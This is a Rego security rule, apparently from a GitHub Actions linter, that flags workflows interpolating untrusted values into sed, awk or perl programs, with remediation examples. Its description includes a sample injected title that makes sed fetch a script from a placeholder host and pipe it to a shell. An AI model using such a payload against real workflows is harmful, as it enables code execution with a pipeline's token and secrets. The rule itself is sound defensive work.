# METADATA
# title: Untrusted data inside a sed, awk or perl program (argument injection)
# description: >-
#   Environment variables keep untrusted text out of the shell's syntax, but not out of the
#   programs the shell passes it to. In `sed "s/x/$TITLE/"` the title becomes sed code: a title
#   such as `x/;e curl evil.sh|sh;#` uses sed's `e` command to run a shell, and awk and `perl -e`
#   programs run `system()` the same way. In a workflow outsiders trigger that is code execution
#   with the job's token and secrets (OWASP CI/CD Top 10 CICD-SEC-4; CWE-88).
# related_resources:
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: github-actions/argument-injection
#   severity: high
#   confidence: medium
#   kinds: [github-workflow, github-action]
#   remediation: |
#     Pass untrusted values to the program as data (awk -v, environment variables read by the
#     program), or replace the value in a language that does not evaluate it.
#
#     Before:
#     ```yaml
#     run: sed -i "s/__BRANCH__/$BRANCH/" config.json
#     ```
#     After:
#     ```yaml
#     run: jq --arg b "$BRANCH" '.branch = $b' config.json > tmp.json && mv tmp.json config.json
#     ```
#   tags: [security, injection, github-actions]
#   frameworks:
#     owasp-cicd: [CICD-SEC-4]
#   equivalents:
#     codeql: [actions/argument-injection/critical, actions/argument-injection/medium]
package palisade.github_actions.argument_injection

import data.palisade.lib.github

# Commands whose first arguments are a program: sed and awk scripts, perl/ruby -e one-liners.
_program := `(^|[\s;&|(])(sed|gawk|awk|perl\s+-\S*e|ruby\s+-\S*e)\s`

# A command with its backslash-continued lines joined, so that `sed -e … \` spans its lines.
_command(lines, i) := concat(" ", [lines[k] |
	some k in numbers.range(i, min([i + 20, count(lines) - 1]))
	_continues(lines, i, k)
])

_continues(_, i, i)

_continues(lines, i, k) if {
	k > i
	every m in numbers.range(i, k - 1) {
		endswith(trim_right(lines[m], " \t"), "\\")
	}
}

# The program commands of a command line, up to the next pipe or list operator, without their
# `-v name=value` assignments (awk's way of passing data).
_program_segments(cmd) := {regex.replace(seg, `\s-v\s*\S+`, " ") |
	some seg in regex.find_n(`(sed|gawk|awk|perl\s+-\S*e|ruby\s+-\S*e)\s[^|;&]*`, cmd, -1)
}

violation contains v if {
	some s in github.steps
	is_string(s.step.run)
	lines := split(s.step.run, "\n")
	some i, line in lines
	regex.match(_program, line)
	some segment in _program_segments(_command(lines, i))
	github.line_tainted(s, segment)
	count(github.tainted_expressions(s, segment)) == 0
	v := {
		"msg": sprintf("%s puts untrusted data into the program text of %s; the value can add commands (sed's e, awk's system()) — pass it as data instead", [s.label, trim_space(regex.find_n(`(sed|gawk|awk|perl|ruby)`, line, 1)[0])]),
		"path": github.script_route(array.concat(s.path, ["run"]), s.step.run, i),
	}
}
